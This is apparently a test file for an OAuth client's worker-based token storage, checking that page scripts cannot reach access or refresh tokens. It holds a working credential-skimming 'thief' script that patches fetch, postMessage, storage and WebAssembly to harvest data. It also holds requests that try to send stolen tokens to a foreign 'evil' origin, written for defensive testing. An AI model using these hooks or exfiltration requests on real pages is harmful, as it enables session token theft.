// `tokenStorage: "worker"`: a worker has the tokens and sends the requests. The page has neither, however it looks for them.

import assert from 'node:assert/strict';
import { beforeEach, test } from 'node:test';
import { startApi } from '../../../www-example/provider/provider.js';
import { fails } from '../lib/failure.js';
import { hold, untilAborted } from '../lib/hold.js';
import { useServers } from '../lib/servers.js';
import { alice, canStream, login, reachCallback, session, storedKeys, troubles } from '../lib/steps.js';
import { useWorld } from '../lib/world.js';

const world = useWorld({ refreshTokens: 'always' });
const options = { tokenStorage: 'worker' };
let api;
let foreign;
/** The bodies that the token endpoint gave. */
let issued;

useServers(world, async () => {
  api = await startApi({ provider: world.provider });
  foreign = await startApi({ provider: world.provider });
  return [api, foreign];
});

beforeEach(() => {
  // A page with Trusted Types gives the URL of the worker itself.
  world.app.restrict({ 'worker-src': "'self'", 'require-trusted-types-for': undefined });
  issued = [];
  world.provider.tamper(world.provider.paths.token, ({ body }) => { issued.push({ ...body }); });
});

const settings = () => world.settings({ apiBaseUrl: `${api.origin}/api/` });
const signIn = () => login(world, { settings: settings(), options });
const start = () => world.start(settings(), options);
const tokens = () => issued.flatMap(({ access_token: access, refresh_token: refresh }) => [access, refresh]).filter(Boolean);

/** Runs before the package: keeps everything that passes through the page, as a script of an attacker would. */
const thief = () => {
  const loot = [];
  window.loot = loot;
  window.memories = [];
  const text = (value) => {
    try {
      return typeof value === 'string' ? value : JSON.stringify(value, (_name, member) => (ArrayBuffer.isView(member) ? new TextDecoder().decode(member) : member));
    } catch {
      return '';
    }
  };
  const wrap = (owner, name) => {
    const original = owner[name];
    owner[name] = function wrapped(...args) {
      const given = original.apply(this, args);
      loot.push(text(args));
      Promise.resolve(given).then((value) => loot.push(text(value)), () => {});
      return given;
    };
  };
  const RealWorker = Worker;
  window.Worker = class extends RealWorker {
    constructor(...args) {
      super(...args);
      window.stolenWorker = this;
      this.addEventListener('message', ({ data }) => loot.push(text(data)));
    }
  };
  for (const [owner, ...names] of [
    [window, 'fetch', 'postMessage'], [RealWorker.prototype, 'postMessage'], [MessagePort.prototype, 'postMessage'], [BroadcastChannel.prototype, 'postMessage'],
    [JSON, 'parse', 'stringify'], [TextDecoder.prototype, 'decode'], [Response.prototype, 'json', 'text', 'arrayBuffer'], [Headers.prototype, 'set', 'append'],
    [Storage.prototype, 'setItem'], [IDBFactory.prototype, 'open'],
  ]) for (const name of names) if (name !== 'stringify') wrap(owner, name);
  const { instantiate, instantiateStreaming } = WebAssembly;
  const remember = async (made) => {
    const { instance = await made } = await made;
    window.memories.push(Object.values(instance.exports).find((member) => member instanceof WebAssembly.Memory));
    return made;
  };
  WebAssembly.instantiate = (...args) => remember(instantiate(...args));
  WebAssembly.instantiateStreaming = (...args) => remember(instantiateStreaming(...args));
  new BroadcastChannel('oidc').onmessage = ({ data }) => loot.push(text(data));
};

/** Looks for texts in everything that the page can read. */
const search = (wanted) => world.call(async (backwards) => {
  // A driver hands arguments over by built-ins of the page, which the thief hears.
  const texts = backwards.map((text) => [...text].reverse().join(''));
  const found = [];
  const look = (where, haystack) => { for (const wanted of texts) if (haystack.includes(wanted)) found.push(where); };
  look('what passed through the page', window.loot.join('\n'));
  look('storage', JSON.stringify([{ ...sessionStorage }, { ...localStorage }]));
  look('databases and caches', JSON.stringify([await indexedDB.databases?.(), await caches.keys()]));
  look('history', JSON.stringify([history.state, location.href, document.cookie, window.name]));
  for (const memory of window.memories) look('memory of WebAssembly', new TextDecoder('latin1').decode(memory.buffer));
  const seen = new Set();
  const walk = (value, depth) => {
    if (typeof value === 'string') look('globals', value);
    if (Object(value) !== value || seen.has(value) || depth > 6 || value instanceof Node) return;
    seen.add(value);
    for (const name of Reflect.ownKeys(value)) {
      if (value === window && ['loot', 'memories'].includes(name)) continue;
      try {
        walk(value[name], depth + 1);
      } catch { /* A getter that throws has nothing to give. */ }
    }
  };
  walk(window, 0);
  return { found, memories: window.memories.length, passed: window.loot.length };
}, wanted.map((text) => [...text].reverse().join('')));

test('worker: login, userinfo, refresh, API, revocation and logout work, and the page has no token', async () => {
  const { token } = await signIn();
  assert.deepEqual([token.access_token, token.refresh_token, token.userinfo.sub], [undefined, undefined, alice.sub]);
  assert.ok(token.expires_at > 0 && token.id_token);
  assert.deepEqual(Object.keys((await session(world)).token).filter((name) => /access|refresh/.test(name)), []);
  await world.call(() => {
    window.updates = [];
    window.oauth.addEventListener('tokenupdate', ({ detail }) => window.updates.push(detail));
  });
  assert.equal((await world.call(() => window.oauth.demo.userinfo())).sub, alice.sub);
  const refreshed = await world.call(() => window.oauth.demo.refreshToken());
  assert.deepEqual([refreshed.access_token, refreshed.refresh_token], [undefined, undefined]);
  const { sub, authorization, url } = await world.call(async () => {
    const answer = await window.oauth.demo.get('echo');
    return { ...(await answer.json()), url: answer.url };
  });
  assert.deepEqual([sub, authorization, url], [alice.sub, 'Bearer', `${api.origin}/api/echo`]);
  assert.equal(world.provider.tokenRequests('refresh_token')[0].body.refresh_token, issued[0].refresh_token);
  const [update] = await world.call(() => window.updates);
  assert.deepEqual(Object.keys(update).sort(), ['name', 'token']);
  await world.call(() => window.oauth.demo.revokeToken());
  assert.equal(world.requestsTo('revocation', 'POST').at(-1).body.token, issued[1].refresh_token);
  assert.equal((await storedKeys(world, 'oidc:identity:')).length, 1);
  assert.deepEqual(await troubles(world), []);
});

test('worker: getAccessToken is an error that names client.fetch()', async () => {
  await signIn();
  const error = await fails(world, 'config_invalid', { phase: 'token' }, () => window.oauth.demo.getAccessToken());
  assert.match(error.remedy, /client\.fetch\(\)/);
});

test('worker: no script of the page can read a token: not in globals, memory, storage or messages, and not by patched built-ins', async () => {
  world.app.before(`(${thief})();`);
  await signIn();
  await world.call(async () => {
    await window.oauth.demo.refreshToken();
    await window.oauth.demo.userinfo();
    await (await window.oauth.demo.get('echo')).json();
    await window.oauth.demo.refreshToken({ scope: 'openid' });
  });
  assert.equal(issued.length, 3);
  const { found, memories, passed } = await search(tokens());
  assert.deepEqual(found, []);
  assert.ok(memories > 0 && passed > 50, 'the thief was there');
  // The thief finds what the page does have. Each refresh may have brought another id_token.
  const control = await search(issued.map(({ id_token }) => id_token).filter(Boolean));
  for (const where of ['what passed through the page', 'storage', 'globals', 'memory of WebAssembly']) assert.ok(control.found.includes(where), where);
});

test('worker: an at_hash that does not belong to the access token is refused', async () => {
  world.provider.tamper(world.provider.paths.token, ({ body }) => {
    const { claims } = world.provider.decodeJwt(body.id_token);
    body.id_token = world.provider.signJwt({ ...claims, at_hash: 'A'.repeat(22) });
  });
  await reachCallback(world, { settings: settings(), options });
  await start();
  await fails(world, 'at_hash_mismatch', { phase: 'id_token' }, () => window.oauth.handleRedirect());
});

test('worker: what a script of the page sends the worker itself brings no token to another place', async () => {
  world.app.before(`(${thief})();`);
  await signIn();
  const handles = await world.call(() => [...new Set([...window.loot.join('\n').matchAll(/(?:Bearer |token\\*":\\*")([\w-]{22})\b/g)].map((match) => match[1]))]);
  assert.ok(handles.length > 0);
  world.provider.clearRequests();
  const answers = await world.call(async (known, evil, issuer, tokenEndpoint) => {
    const form = [['content-type', 'application/x-www-form-urlencoded']];
    const places = { endpoints: [`${evil}/api/echo`, tokenEndpoint], origins: [evil] };
    const said = [];
    let id = 1e6;
    const ask = (request, more) => new Promise((resolve) => {
      const own = (id += 1);
      window.stolenWorker.addEventListener('message', ({ data }) => { if (data.id === own) resolve(JSON.stringify(data)); });
      window.stolenWorker.postMessage({ id: own, request, places: more });
    });
    for (const handle of known) {
      const bearer = [['authorization', `Bearer ${handle}`]];
      const body = (name) => new Blob([`grant_type=refresh_token&client_id=x&${name}=${handle}`]);
      said.push(
        await ask({ url: `${evil}/api/echo`, method: 'GET', mode: 'cors', headers: bearer }),
        await ask({ url: `${evil}/api/echo`, method: 'GET', mode: 'cors', headers: bearer }, places),
        await ask({ url: `${evil}/api/echo`, method: 'POST', mode: 'cors', headers: form, body: body('token') }),
        await ask({ url: `${evil}/api/echo`, method: 'POST', mode: 'cors', headers: form, body: body('token') }, places),
        await ask({ url: tokenEndpoint, method: 'POST', mode: 'cors', headers: form, body: body('refresh_token') }, places),
        await ask({ url: `${issuer}/other`, method: 'POST', mode: 'cors', headers: form, body: body('refresh_token') }),
      );
    }
    return said;
  }, handles, foreign.origin, world.provider.issuer, world.provider.issuer + world.provider.paths.token);
  assert.equal(answers.length, 6 * handles.length);
  const arrived = JSON.stringify([...foreign.requests, ...world.provider.requests].map(({ url, headers, rawBody, body }) => [url, headers, rawBody, body]));
  for (const token of tokens()) {
    assert.equal(arrived.includes(token), false, 'no token left the worker for these places');
    assert.equal(answers.join('\n').includes(token), false);
  }
});

test('worker: a redirect of an API is not followed, and takes the token nowhere', async () => {
  await signIn();
  await fails(world, 'network', { phase: 'request' }, (to) => window.oauth.demo.get(`redirect?to=${encodeURIComponent(to)}`), `${foreign.origin}/api/echo`);
  assert.equal(foreign.requests.some(({ headers }) => headers.authorization), false);
});

test('worker: bodies of answers stream, an abort ends them, and uploads arrive', async () => {
  await signIn();
  const first = await world.call(async () => {
    const answer = await window.oauth.demo.get('stream?chunks=3&interval=50');
    const reader = answer.body.pipeThrough(new TextDecoderStream()).getReader();
    const chunks = [];
    for (;;) {
      const { done, value } = await reader.read();
      if (done) return chunks;
      chunks.push(value);
    }
  });
  assert.deepEqual([first.join(''), first.length > 1], ['chunk 1\nchunk 2\nchunk 3\n', true]);
  const name = await world.call(async () => {
    const stop = new AbortController();
    const answer = await window.oauth.demo.get('stream?chunks=1000&interval=20', { signal: stop.signal });
    const reader = answer.body.getReader();
    await reader.read();
    stop.abort();
    return reader.read().then(() => 'read on', (error) => error.name);
  });
  assert.equal(name, 'AbortError');
  await untilAborted(world, api.requests.filter(({ path }) => path === '/api/stream').at(-1));
  const { body, contentType } = await world.call(async () => {
    const form = new FormData();
    form.append('title', 'two files');
    form.append('file', new File(['hello'], 'hello.txt', { type: 'text/plain' }));
    form.append('file', new Blob(['world']), 'world.txt');
    return (await window.oauth.demo.post('echo', { body: form })).json();
  });
  const [, boundary] = contentType.match(/^multipart\/form-data; boundary=(\S+)$/);
  assert.equal(body.split(boundary).length, 5, 'three parts within the boundary that the header names');
  assert.match(body, /name="title"\s+two files\s[^]*filename="hello\.txt"\s+Content-Type: text\/plain\s+hello\s[^]*filename="world\.txt"[^]*world/);
});

test('worker: an abort before the answer', async () => {
  await signIn();
  const held = hold(api, api.paths.echo);
  await world.call(() => {
    window.stop = new AbortController();
    window.asked = window.oauth.demo.get('echo', { signal: window.stop.signal }).then(() => 'answered', ({ code }) => code);
  });
  await held.asked(world);
  assert.equal(await world.call(() => {
    window.stop.abort();
    return window.asked;
  }), 'aborted');
  await untilAborted(world, held.held[0]);
  held.release();
});

test('worker: an abort while the body of the request has no end', async (t) => {
  await signIn();
  if (!await canStream(world)) return t.skip(`${world.driver.name} sends no streams`);
  assert.equal(await world.call((url) => {
    const stop = new AbortController();
    const asked = window.oauth.demo.fetch(url, { method: 'POST', body: new ReadableStream(), duplex: 'half', signal: stop.signal }).then(() => 'answered', ({ code }) => code);
    setTimeout(() => stop.abort(), 100);
    return Promise.race([asked, new Promise((resolve) => { setTimeout(resolve, 3000, 'waits'); })]);
  }, api.origin + api.paths.echo), 'aborted');
});

test('worker: a 401 invalid_token has the worker refresh, and the request is sent once more', async () => {
  await signIn();
  world.provider.revokeAccessTokens();
  assert.equal(await world.call(async () => (await (await window.oauth.demo.get('echo')).json()).sub), alice.sub);
  assert.equal(world.provider.tokenRequests('refresh_token').length, 1);
});

test('worker: a worker that cannot be loaded is worker_load_failed, with a remedy', async () => {
  const failing = async (more) => {
    await world.visit('/');
    return world.call((own, o) => window.start(own, o).catch((thrown) => window.describe(thrown)), settings(), { ...options, ...more });
  };
  for (const workerUrl of ['/nowhere.js', 'https://cdn.example/worker.js']) {
    const { code, kind, phase, retryable, remedy } = await failing({ workerUrl });
    assert.deepEqual([code, kind, phase, retryable], ['worker_load_failed', 'environment', 'config', true], workerUrl);
    assert.match(remedy, /workerUrl/);
  }
  world.app.restrict({ 'worker-src': "'none'" });
  const { code, remedy } = await failing();
  assert.equal(code, 'worker_load_failed');
  assert.match(remedy, /worker-src/);
});

test('worker: under Trusted Types, the page gives the URL of a copy of worker.js', async () => {
  world.app.restrict({ 'require-trusted-types-for': "'script'" });
  world.app.before(`
    window.startTrusted = (settings) => window.start(settings, {
      tokenStorage: 'worker',
      workerUrl: window.trustedTypes ? trustedTypes.createPolicy('app', { createScriptURL: (url) => url }).createScriptURL('/package/worker.js') : '/package/worker.js',
    });`);
  await world.visit('/');
  await world.call((own) => window.startTrusted(own), settings());
  await world.leave(() => window.oauth.demo.authorizeRedirect());
  await world.pages.signIn(world.driver, alice);
  await world.driver.untilAt('the answer', ({ origin, search }) => origin === world.app.origin && search.includes('code='));
  await world.ready();
  await world.call((own) => window.startTrusted(own), settings());
  assert.equal((await world.call(() => window.oauth.handleRedirect())).kind, 'login');
  assert.deepEqual(await troubles(world), []);
});

test('worker: a worker that was stopped: a request under way fails, the next one ends the session, and a login brings it back', async () => {
  world.app.before(`(${thief})();`);
  await signIn();
  await world.call(() => {
    window.ends = [];
    window.oauth.addEventListener('logout', ({ detail }) => window.ends.push(detail.reason));
    window.stolenWorker.terminate();
  });
  const error = await fails(world, 'network', { phase: 'request' }, () => window.oauth.demo.get('echo'));
  assert.equal(error.retryable, true);
  assert.equal(await world.call(async () => (await window.oauth.demo.get('echo')).status), 401);
  assert.equal((await session(world)).isAuthenticated, false);
  assert.deepEqual(await world.call(() => window.ends), ['refresh-rejected']);
  await world.leave(() => window.oauth.demo.authorizeRedirect());
  await world.driver.untilAt('the answer', ({ origin, search }) => origin === world.app.origin && search.includes('code='));
  await world.ready();
  await start();
  assert.equal((await world.call(() => window.oauth.handleRedirect())).kind, 'login');
});

test('worker: fetchToken is refused, because its tokens are the page\'s', async () => {
  await world.visit('/');
  await fails(world, 'config_invalid', { phase: 'config' },
    (own, o) => window.start({ demo: { ...own.demo, fetchToken: () => null } }, o), settings(), options);
});

test('worker: a refresh token goes to no API, in the place of an access token', async () => {
  world.app.before(`(${thief})();`);
  await signIn();
  const handles = await world.call(() => [...new Set([...window.loot.join('\n').matchAll(/refresh_token\\*":\\*"([\w-]{22})\b/g)].map((match) => match[1]))]);
  assert.equal(handles.length, 1);
  api.clearRequests();
  const said = await world.call((url, handle) => new Promise((resolve) => {
    window.stolenWorker.addEventListener('message', ({ data }) => { if (data.id === 1e6) resolve(data.error); });
    window.stolenWorker.postMessage({ id: 1e6, request: { url, method: 'GET', mode: 'cors', headers: [['authorization', `Bearer ${handle}`]] } });
  }), api.origin + api.paths.echo, handles[0]);
  assert.match(said, /access tokens/);
  assert.equal(JSON.stringify(api.requests.map(({ headers }) => headers)).includes(issued[0].refresh_token), false);
});

test('worker: what is put into Object.prototype makes no request fail or wait for ever', async () => {
  await signIn();
  const ends = await world.call(async () => {
    const polluted = { error: 'polluted', head: { status: 500 }, done: true, type: 'bytes', size: 'polluted', get: () => 'polluted', set: () => {}, isWaiting: true, autoAllocateChunkSize: 0 };
    const said = {};
    for (const [name, value] of Object.entries(polluted)) {
      Object.defineProperty(Object.prototype, name, { __proto__: null, value, writable: true, configurable: true });
      try {
        const asked = window.oauth.demo.get('echo').then((answer) => answer.text()).then((text) => text.includes('"sub"'), (error) => String(error));
        said[name] = await Promise.race([asked, new Promise((resolve) => { setTimeout(resolve, 3000, 'waits'); })]);
      } finally {
        delete Object.prototype[name];
      }
    }
    return said;
  });
  assert.deepEqual([...new Set(Object.values(ends))], [true], JSON.stringify(ends));
});

test('worker: after a URL without a worker, the right URL starts one', async () => {
  await world.visit('/');
  const said = await world.call(async (own, o) => {
    const begin = (more) => window.start(own, { ...o, ...more }).then(() => 'started', ({ code }) => code);
    return [await begin({ workerUrl: '/nowhere.js' }), await begin({ workerUrl: '/package/worker.js' })];
  }, settings(), options);
  assert.deepEqual(said, ['worker_load_failed', 'started']);
});
